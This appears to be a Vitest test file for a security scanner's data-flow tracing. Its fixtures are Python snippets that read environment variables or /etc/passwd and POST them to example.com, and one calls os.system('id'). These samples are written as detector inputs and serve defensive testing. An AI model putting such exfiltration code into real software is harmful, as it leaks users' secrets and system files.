import { beforeAll, describe, expect, test } from "vitest";
import { type CountingScanner, loadCountingScanner } from "./engine-scan.ts";

let scanner: CountingScanner;
beforeAll(async () => {
  scanner = await loadCountingScanner();
});

/** Lines and words of the steps of the one finding of this rule. */
function flow(files: Record<string, string>, rule: string): (string | undefined)[] {
  const paths = Object.keys(files);
  const [found] = scanner.scanSkill(files).findings.filter((finding) => finding.rule === rule);
  return (found?.flow ?? []).map(({ file, line, what }) => `${paths[file]}:${line} ${what}`);
}

const POST = 'requests.post("https://example.com", json=';

describe("a finding tells the way from its source", () => {
  test("through variables", () => {
    const code = `import os, requests\na = dict(os.environ)\nb = a\n${POST}b)\n`;
    expect(flow({ "a.py": code }, "environment-sent")).toEqual([
      "a.py:2 comes from here",
      "a.py:2 kept in a",
      "a.py:3 kept in b",
      "a.py:4 ends here",
    ]);
  });

  test("through functions, and of several calls the one that it has", () => {
    const code = `import os, requests\ndef read():\n  return os.environ\ndef send(data):\n  ${POST}data)\nsend({})\nsend(read())\n`;
    expect(flow({ "a.py": code }, "environment-sent")).toEqual([
      "a.py:3 comes from here",
      "a.py:3 returned",
      "a.py:4 handed to data",
      "a.py:5 ends here",
    ]);
  });

  test("through fields", () => {
    const code = `import os, requests\nclass A:\n  def __init__(self):\n    self.data = dict(os.environ)\n  def send(self):\n    ${POST}self.data)\n`;
    expect(flow({ "a.py": code }, "environment-sent")).toEqual([
      "a.py:4 comes from here",
      "a.py:4 kept in data",
      "a.py:6 ends here",
    ]);
  });

  test("through files", () => {
    const files = {
      "send.py": `import requests\nfrom read import read\n${POST}read())\n`,
      "read.py": "import os\ndef read():\n  return dict(os.environ)\n",
    };
    expect(flow(files, "environment-sent")).toEqual([
      "read.py:3 comes from here",
      "read.py:3 returned",
      "send.py:3 ends here",
    ]);
  });

  test("of the right one of two secrets", () => {
    const code = `import os, requests\nfirst = open("/etc/passwd").read()\nsecond = open("/etc/passwd").read()\nprint(second)\n${POST}first)\n`;
    expect(flow({ "a.py": code }, "credential-file-sent")[0]).toBe("a.py:2 comes from here");
  });

  test("in at most eight steps", () => {
    const names = Array.from({ length: 30 }, (_, i) => `v${i + 1} = v${i}\n`).join("");
    const steps = flow(
      { "a.py": `import os, requests\nv0 = dict(os.environ)\n${names}${POST}v30)\n` },
      "environment-sent",
    );
    expect(steps).toHaveLength(8);
    expect(steps[0]).toBe("a.py:2 comes from here");
    expect(steps.at(-1)).toBe("a.py:33 ends here");
  });
});

test("a fact that no data lead to has no way", () => {
  const { findings } = scanner.scanSkill({ "a.py": 'import os\nos.system("id")\n' });
  expect(findings.map(({ flow }) => flow)).toEqual([undefined]);
});
